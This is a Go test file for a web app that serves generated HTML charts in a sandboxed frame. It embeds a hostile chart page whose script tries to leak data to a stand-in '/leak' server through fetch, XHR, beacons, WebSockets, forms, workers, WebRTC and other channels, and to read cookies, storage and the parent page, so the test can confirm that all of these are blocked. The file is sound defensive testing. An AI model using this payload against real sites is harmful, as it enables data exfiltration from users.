package web

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/attachebot/attache/internal/files"
)

// attack tries what a hostile chart would: to send what it knows to %[1]s (a
// server) or %[2]s (UDP), to reach our page or another site, to read what is ours.
// It writes the names of what worked into its own title and draws "drawn".
const attack = `<!doctype html><title>chart</title><body><p id=p></p><script>
document.getElementById('p').textContent = 'drawn'
const bad = [], out = 'http://%[1]s/leak?'
const attempt = (name, f) => { try { const r = f(); if (r && r.then) r.then(v => { if (v !== false) bad.push(name) }, () => {}); else if (r) bad.push(name) } catch {} }
attempt('fetch', () => fetch(out + 'fetch', {mode: 'no-cors'}).then(() => true))
attempt('xhr', () => { const x = new XMLHttpRequest; x.open('GET', out + 'xhr'); x.onload = () => bad.push('xhr'); x.send() })
attempt('beacon', () => { navigator.sendBeacon(out + 'beacon') })
attempt('image', () => { new Image().src = out + 'image' })
attempt('socket', () => { new WebSocket('ws://%[1]s/leak?socket').onopen = () => bad.push('socket') })
attempt('style', () => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = out + 'style'; document.head.append(l) })
attempt('script', () => { const s = document.createElement('script'); s.src = out + 'script'; document.head.append(s) })
attempt('frame', () => { const i = document.createElement('iframe'); i.src = out + 'frame'; document.body.append(i) })
attempt('form', () => { const f = document.createElement('form'); f.action = out + 'form'; document.body.append(f); f.submit() })
attempt('open', () => window.open(out + 'open'))
attempt('cookie', () => document.cookie)
attempt('storage', () => (localStorage.x = 1))
attempt('parent', () => parent.document.title)
attempt('top', () => { top.location = out + 'top' })
attempt('own page', () => fetch('/files').then(r => r.text()).then(t => t.includes('uploaded')))
attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(["fetch('" + out + "worker', {mode: 'no-cors'})"]))) })
attempt('webrtc', () => { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:%[2]s'}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)) })
setTimeout(() => { parent.postMessage({bad}, '*') }, 1500)
setTimeout(() => { location = out + 'self' }, 2500)
</script>`

// A chart is drawn, and nothing that it tries leaves its frame.
func TestBrowserChartIsCaged(t *testing.T) {
	var reached atomic.Value
	reached.Store("")
	outside := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, "/leak") {
			reached.Store(reached.Load().(string) + " " + r.URL.RawQuery)
		}
	}))
	defer outside.Close()
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	var packets atomic.Int64
	listening := make(chan struct{})
	go func() {
		defer close(listening)
		for b := make([]byte, 2048); ; packets.Add(1) {
			if _, _, err := udp.ReadFrom(b); err != nil {
				return
			}
		}
	}()

	s := newSite(t, ServerOptions{})
	page := fmt.Sprintf(attack, strings.TrimPrefix(outside.URL, "http://"), udp.LocalAddr())
	saved, err := s.files.Save(t.Context(), files.Upload{User: 1, Name: "chart.html", Body: strings.NewReader(page), Generated: true})
	if err != nil {
		t.Fatal(err)
	}
	ctx := browse(t, 1440)
	do(t, ctx, chromedp.Navigate(s.SignInURL()))
	seen(t, ctx, "the chat", `document.getElementById('q')`)
	do(t, ctx, chromedp.Navigate(s.origin+"/files/"+string(saved.ID)))
	seen(t, ctx, "the button", `document.querySelector('live-chart button')`)
	eval[bool](t, ctx, `addEventListener('message', e => { window.told = e.data.bad }), document.querySelector('live-chart button').click() || true`)
	seen(t, ctx, "what the chart tried", `window.told`)
	if bad := eval[[]string](t, ctx, `window.told`); len(bad) > 0 {
		t.Errorf("a chart could: %q", bad)
	}
	time.Sleep(2500 * time.Millisecond) // it leads its own frame away, or tries to
	if at := eval[string](t, ctx, `location.pathname`); at != "/files/"+string(saved.ID) {
		t.Errorf("the page is at %s", at)
	}
	if got := reached.Load(); got != "" {
		t.Errorf("a chart reached the outside:%s", got)
	}
	udp.Close()
	<-listening
	if n := packets.Load(); n != 0 {
		t.Errorf("a chart sent %d packets by WebRTC", n)
	}
}

// A chart is served to a frame alone, and only what code made is one.
func TestChartIsServedToFramesAlone(t *testing.T) {
	s := newSite(t, ServerOptions{})
	p := s.person()
	p.signIn()
	save := func(user files.UserID, name string, generated bool) string {
		f, err := s.files.Save(t.Context(), files.Upload{User: user, Name: name, Body: strings.NewReader("<!doctype html><p>" + name), Generated: generated})
		if err != nil {
			t.Fatal(err)
		}
		return "/files/" + string(f.ID) + "/chart"
	}
	chart := save(1, "chart.html", true)
	for _, c := range []struct {
		path, dest string
		want       int
	}{
		{chart, "iframe", 200}, {chart, "document", 403}, {chart, "", 403}, {chart, "script", 403},
		{save(1, "mine.html", false), "iframe", 404}, {save(1, "notes.txt", true), "iframe", 404}, {save(2, "theirs.html", true), "iframe", 404},
	} {
		status, _, h := p.do("GET", c.path, nil, "Sec-Fetch-Dest", c.dest)
		if status != c.want {
			t.Errorf("%s as %q: %d", c.path, c.dest, status)
		}
		if policy := h.Get("Content-Security-Policy"); status == 200 && (policy != caged || h.Get("Connection-Allowlist") != "()") {
			t.Errorf("the cage is open: %v", h)
		}
	}
	if status, _, _ := s.person().do("GET", chart, nil, "Sec-Fetch-Dest", "iframe"); status != http.StatusUnauthorized {
		t.Errorf("a stranger: %d", status)
	}
}

// A page that loads its scripts from elsewhere is not offered: it would stay empty.
func TestChartsThatDraw(t *testing.T) {
	s := newSite(t, ServerOptions{})
	for page, want := range map[string]bool{
		`<html><script type="text/javascript">/** plotly.js */</script>`:                  true,
		`<html><script src="https://cdn.jsdelivr.net/npm/vega@6"></script>`:               false,
		"<html><SCRIPT type='text/javascript'\nSRC = 'https://cdn.bokeh.org/x'></SCRIPT>": false,
	} {
		f, err := s.files.Save(t.Context(), files.Upload{User: 1, Name: "chart.html", Body: strings.NewReader(page), Generated: true})
		if err != nil {
			t.Fatal(err)
		}
		if got := s.draws(t.Context(), f.File); got != want {
			t.Errorf("%s: %v", page, got)
		}
	}
}
